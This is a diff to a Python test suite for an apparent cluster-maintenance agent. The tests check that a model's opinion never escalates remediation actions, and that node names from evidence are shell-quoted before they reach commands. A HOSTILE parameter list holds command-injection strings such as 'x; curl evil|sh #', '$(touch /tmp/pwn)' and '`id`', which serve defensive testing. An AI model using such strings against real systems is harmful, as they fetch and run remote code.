@@ -1,14 +1,24 @@
 """Policy over the whole table: no plan that frees nothing, no opinion that makes an action more invasive."""
 
 import csv
+import shlex
+from dataclasses import replace
 from datetime import UTC, datetime
 from importlib.resources import files
 
 import pytest
 
-from agent.faults import load_alternatives, load_differences, load_event_policy, load_faults, load_fold_rules
-from agent.policy import ACTION_RANK, CAPS, SitePolicy, build_plan, decide, decide_for_model
-from agent.types import Case, Claim, Opinion, Suspicion
+from agent.faults import (
+    load_alternatives,
+    load_commands,
+    load_differences,
+    load_event_policy,
+    load_faults,
+    load_fold_rules,
+)
+from agent.plan import UNKNOWN_NAMES, build_plan, spell_command
+from agent.policy import ACTION_RANK, CAPS, SOFT_ACTIONS, SitePolicy, decide, decide_for_model
+from agent.types import SEVERITY_RANK, Case, Claim, ModelUse, Opinion, Suspicion
 from agent.verdicts import build_verdict
 from tools.evidence import EvidenceBook
 from tools.types import Entity, Event, Facts, Moment, Quote
@@ -113,13 +123,65 @@ def test_part_is_replaced_only_where_the_table_says_so():
             assert confidence == "confirmed" and (fault, *notes) in allowed
 
 
-def test_an_opinion_never_makes_an_action_more_invasive():
+def test_an_opinion_never_makes_an_action_more_invasive_and_silences_no_warning():
+    checked = 0
     for fault, confidence, notes in variants():
         case = case_of(fault, confidence, notes)
         rules = decide(case)
         for named in FAULTS:
             model = decide_for_model(case, named, [fault, named])
             assert ACTION_RANK[model.action] <= ACTION_RANK[rules.action], (fault, named)
+            assert model.action == rules.action or model.action in SOFT_ACTIONS
+            assert SEVERITY_RANK[model.severity] >= SEVERITY_RANK[rules.severity]
+            checked += 1
+    assert checked > 5000
+
+
+def test_under_a_models_fault_the_plan_has_no_step_that_the_rules_plan_lacks():
+    checked = 0
+    for fault, rows in load_alternatives().items():
+        case = replace(case_of(fault, "likely"), alternatives=rows)
+        for named, _ in rows:
+            opinion = Opinion(named, "words", model=ModelUse(name="m", endpoint_kind="scripted", prompt_hashes={}))
+            kwargs = {"facts": Facts(), "site": SitePolicy(), "now": NOW}
+            rules = build_verdict(case, EvidenceBook(), **kwargs)
+            model = build_verdict(case, EvidenceBook(), opinion=opinion, **kwargs)
+            assert model.decided_by == "model" and model.fault == named
+            steps = {step.action for step in model.plan} - {model.action}
+            assert steps <= {step.action for step in rules.plan}, (fault, named)
+            checked += 1
+    assert checked > 30
+
+
+HOSTILE = ["x; curl evil|sh #", "$(touch /tmp/pwn)", "`id`", "a b", "-rf", "'", '"', "a\nb", "<node>"]
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+@pytest.mark.parametrize("scheduler", ["slurm", "kubernetes", "none"])
+def test_names_from_evidence_never_reach_a_shell(name, scheduler):
+    checked = 0
+    for fault in FAULTS:
+        case = case_of(fault)
+        hostile = replace(case.primary, entity=replace(case.primary.entity, node=name, name=name))
+        for action in {command.action for command in load_commands()}:
+            text = spell_command(action, replace(case, primary=hostile), SitePolicy(scheduler))
+            if text is None:
+                continue
+            words = shlex.split(text)
+            checked += 1
+            assert not set(";|`$<>&") & set(text) or any(name in word for word in words), text
+            assert name not in words or shlex.quote(name) in text
+            assert "-rf" not in words
+    assert checked > 100
+
+
+def test_a_command_for_the_node_goes_there_and_a_name_that_is_not_known_is_a_word():
+    case = case_of("gpu_off_bus")
+    assert spell_command("reboot_node", case, SitePolicy()) == "ssh node-a17 systemctl reboot"
+    nowhere = replace(case, primary=replace(case.primary, entity=Entity("gpu")))
+    assert spell_command("drain_node", nowhere, SitePolicy()).startswith(
+        f"scontrol update NodeName={UNKNOWN_NAMES['node']} "
+    )
 
 
 @pytest.mark.parametrize(
@@ -132,8 +194,6 @@ def test_an_opinion_never_makes_an_action_more_invasive():
     ],
 )
 def test_a_confirmed_fault_stands_whatever_the_model_says(named, rejected, decided_by):
-    from agent.types import ModelUse
-
     use = ModelUse(name="m", endpoint_kind="scripted", prompt_hashes={})
     claim = Claim(text="it is so", evidence=["e1"], verified=True)
     opinion = Opinion(named, "words of the model", (claim,), model=use, rejected=rejected)
@@ -145,8 +205,6 @@ def test_a_confirmed_fault_stands_whatever_the_model_says(named, rejected, decid
 
 
 def test_what_only_the_model_names_is_at_most_likely():
-    from agent.types import ModelUse
-
     case = case_of("unknown", "inconclusive")
     use = ModelUse(name="m", endpoint_kind="scripted", prompt_hashes={})
     verdict = build_verdict(
